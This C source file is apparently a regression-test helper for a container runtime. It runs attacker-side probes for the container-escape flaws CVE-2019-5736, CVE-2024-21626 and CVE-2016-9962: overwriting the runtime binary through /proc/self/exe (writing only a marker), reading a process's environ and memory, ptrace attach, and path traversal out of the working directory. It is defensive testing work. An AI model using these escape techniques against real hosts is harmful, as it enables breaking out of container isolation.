/* sprout-cve: the in-container halves of the CVE regression tests
 * (tests/integration/cve.sh).  Static, libc only.
 *
 *   sprout-cve write-exe FD RESULT [NAME]
 *       CVE-2019-5736: FD is an O_PATH fd on the runtime binary as the
 *       container saw it through /proc/self/exe (NAME: what readlink
 *       said).  For up to 5 s, try to reopen it for writing (ETXTBSY while
 *       anyone executes it) and append a marker.  RESULT gets one line per
 *       step: "exe=NAME", "open=OK|errno text", "write=N|errno text".
 *   sprout-cve cwd
 *       CVE-2024-21626: print "cwd=PATH" (getcwd) and "parent=..." for
 *       ../../.. of the working directory, or the error.
 *   sprout-cve watch MARKER MS [WRITE_MS]
 *       CVE-2016-9962 (and CVE-2019-5736, CVE-2024-21626 through exec):
 *       for MS milliseconds, look at every other process of the container
 *       whose cmdline contains MARKER (the runtime, before its execve) and
 *       try what an attacker in the container would: read its environ,
 *       open its mem for writing, read its memory (process_vm_readv: an
 *       attach-level check), PTRACE_ATTACH, list and open its fds, read
 *       its cwd link, and keep an O_PATH fd on its exe.  Then, for up to
 *       WRITE_MS (default 0), try to reopen each kept exe for writing.
 *       Prints "seen=N" (looks at a process that was still the runtime
 *       when the look was over: an execve meanwhile voids it), "seen_ms="
 *       (from the first such look to the last), one line
 *       per attempt: "NAME=OK" if it worked even once, else the last
 *       error; "exe_write=N" is a write into the runtime's binary. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int write_exe(int argc, char **argv) {
  if (argc < 4)
    return 2;
  int fd = atoi(argv[2]);
  FILE *out = fopen(argv[3], "w");
  if (!out)
    return 1;
  fprintf(out, "exe=%s\n", argc > 4 ? argv[4] : "?");
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  int w = -1, e = 0;
  struct timespec nap = {0, 20 * 1000 * 1000};
  for (int i = 0; i < 250; i++) {
    w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (w >= 0)
      break;
    e = errno;
    if (e != ETXTBSY)
      break;
    nanosleep(&nap, NULL);
  }
  if (w < 0) {
    fprintf(out, "open=%s\n", strerror(e));
    fclose(out);
    return 0;
  }
  fprintf(out, "open=OK\n");
  static const char marker[] = "\nCVE-2019-5736 was here\n";
  ssize_t n = write(w, marker, sizeof marker - 1);
  if (n < 0)
    fprintf(out, "write=%s\n", strerror(errno));
  else
    fprintf(out, "write=%zd\n", n);
  close(w);
  fclose(out);
  return 0;
}

static int cwd(void) {
  char buf[PATH_MAX];
  if (getcwd(buf, sizeof buf))
    printf("cwd=%s\n", buf);
  else
    printf("cwd=!%s\n", strerror(errno));
  if (access("../../../../../../etc/hostname", F_OK) == 0)
    printf("reach=../../../../../../etc/hostname\n");
  return 0;
}

/* ---- watch ---- */

enum { A_ENVIRON, A_MEM, A_VM, A_ATTACH, A_FD, A_CWD, A_EXE, A_N };
static const char *const a_name[A_N] = {"environ", "mem", "vm", "attach", "fd", "cwd", "exe"};
static bool a_ok[A_N];
static int a_err[A_N];
static int exe_fds[64], exe_pids[64];
static int exe_n;

/* one look's results, kept only if the process was still the runtime
 * after it (an execve in between would credit the workload's) */
static bool p_ok[A_N];
static int p_err[A_N];

static void note(int a, bool ok, int e) {
  if (ok)
    p_ok[a] = true;
  else if (e)
    p_err[a] = e;
}

static long now_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

static bool cmdline_has(int pid, const char *marker) {
  char p[64], buf[8192];
  snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
  int fd = open(p, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return false;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0)
    return false;
  for (ssize_t i = 0; i < n; i++)
    if (!buf[i])
      buf[i] = ' ';
  buf[n] = '\0';
  return strstr(buf, marker) != NULL;
}

static bool cmdline_has(int pid, const char *marker);

/* Returns an O_PATH fd on the process's exe, or -1. */
static int peek(int pid) {
  char p[64], buf[PATH_MAX];
  int fd, e;
  memset(p_ok, 0, sizeof p_ok);
  memset(p_err, 0, sizeof p_err);
  snprintf(p, sizeof p, "/proc/%d/environ", pid);
  fd = open(p, O_RDONLY | O_CLOEXEC);
  e = errno;
  note(A_ENVIRON, fd >= 0 && read(fd, buf, 16) > 0, fd < 0 ? e : 0);
  if (fd >= 0)
    close(fd);
  snprintf(p, sizeof p, "/proc/%d/mem", pid);
  fd = open(p, O_RDWR | O_CLOEXEC);
  note(A_MEM, fd >= 0, errno);
  if (fd >= 0)
    close(fd);
  /* an unmapped address: EFAULT means the access check passed */
  char b;
  struct iovec local = {&b, 1}, remote = {(void *)0x10000, 1};
  e = process_vm_readv(pid, &local, 1, &remote, 1, 0) < 0 ? errno : 0;
  if (e != ESRCH)
    note(A_VM, e == 0 || e == EFAULT, e);
  if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0) {
    note(A_ATTACH, true, 0);
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
  } else if (errno != ESRCH) {
    note(A_ATTACH, false, errno);
  }
  snprintf(p, sizeof p, "/proc/%d/fd", pid);
  DIR *d = opendir(p);
  if (!d) {
    note(A_FD, false, errno);
  } else {
    struct dirent *de;
    while ((de = readdir(d))) {
      if (de->d_name[0] == '.')
        continue;
      char f[300];
      snprintf(f, sizeof f, "/proc/%d/fd/%s", pid, de->d_name);
      fd = open(f, O_PATH | O_CLOEXEC);
      note(A_FD, fd >= 0, errno);
      if (fd >= 0)
        close(fd);
    }
    closedir(d);
  }
  snprintf(p, sizeof p, "/proc/%d/cwd", pid);
  note(A_CWD, readlink(p, buf, sizeof buf) >= 0, errno);
  snprintf(p, sizeof p, "/proc/%d/exe", pid);
  fd = open(p, O_PATH | O_CLOEXEC);
  note(A_EXE, fd >= 0, errno);
  return fd;
}

/* Look at PID; count the look if it was still the runtime afterwards. */
static bool look(int pid, const char *marker) {
  int fd = peek(pid);
  if (!cmdline_has(pid, marker)) {
    if (fd >= 0)
      close(fd);
    return false;
  }
  for (int a = 0; a < A_N; a++) {
    a_ok[a] |= p_ok[a];
    if (p_err[a])
      a_err[a] = p_err[a];
  }
  /* one O_PATH fd on the binary of each process */
  for (int i = 0; i < exe_n && fd >= 0; i++)
    if (exe_pids[i] == pid) {
      close(fd);
      fd = -1;
    }
  if (fd >= 0 && exe_n < 64) {
    exe_pids[exe_n] = pid;
    exe_fds[exe_n++] = fd;
  } else if (fd >= 0) {
    close(fd);
  }
  return true;
}

static int watch(int argc, char **argv) {
  if (argc < 4)
    return 2;
  const char *marker = argv[2];
  long until = now_ms() + atol(argv[3]);
  long write_ms = argc > 4 ? atol(argv[4]) : 0;
  int self = getpid(), seen = 0;
  long first = 0, last = 0;
  struct timespec nap = {0, 1000 * 1000};
  while (now_ms() < until) {
    DIR *d = opendir("/proc");
    if (!d)
      return 1;
    struct dirent *de;
    while ((de = readdir(d))) {
      int pid = atoi(de->d_name);
      if (pid <= 0 || pid == self || !cmdline_has(pid, marker))
        continue;
      if (look(pid, marker)) {
        last = now_ms();
        first = seen++ ? first : last;
      }
    }
    closedir(d);
    nanosleep(&nap, NULL);
  }
  printf("seen=%d\nseen_ms=%ld\n", seen, last - first);
  for (int a = 0; a < A_N; a++)
    printf("%s=%s\n", a_name[a], a_ok[a] ? "OK" : a_err[a] ? strerror(a_err[a]) : "-");
  /* CVE-2019-5736: reopen the runtime's binary for writing once nobody
   * executes it any more */
  long wuntil = now_ms() + write_ms;
  for (int i = 0; i < exe_n; i++) {
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", exe_fds[i]);
    int w;
    while ((w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC)) < 0 && errno == ETXTBSY &&
           now_ms() < wuntil)
      nanosleep(&nap, NULL);
    if (w < 0) {
      printf("exe_write=%s\n", strerror(errno));
      continue;
    }
    static const char marker_text[] = "\nCVE-2019-5736 was here\n";
    ssize_t n = write(w, marker_text, sizeof marker_text - 1);
    if (n < 0)
      printf("exe_write=%s\n", strerror(errno));
    else
      printf("exe_write=%zd\n", n);
    close(w);
  }
  printf("done\n");
  return 0;
}

int main(int argc, char **argv) {
  if (argc >= 2 && !strcmp(argv[1], "write-exe"))
    return write_exe(argc, argv);
  if (argc >= 2 && !strcmp(argv[1], "cwd"))
    return cwd();
  if (argc >= 2 && !strcmp(argv[1], "watch"))
    return watch(argc, argv);
  fprintf(stderr, "usage: sprout-cve write-exe FD RESULT [NAME] | cwd | watch MARKER MS [WRITE_MS]\n");
  return 2;
}
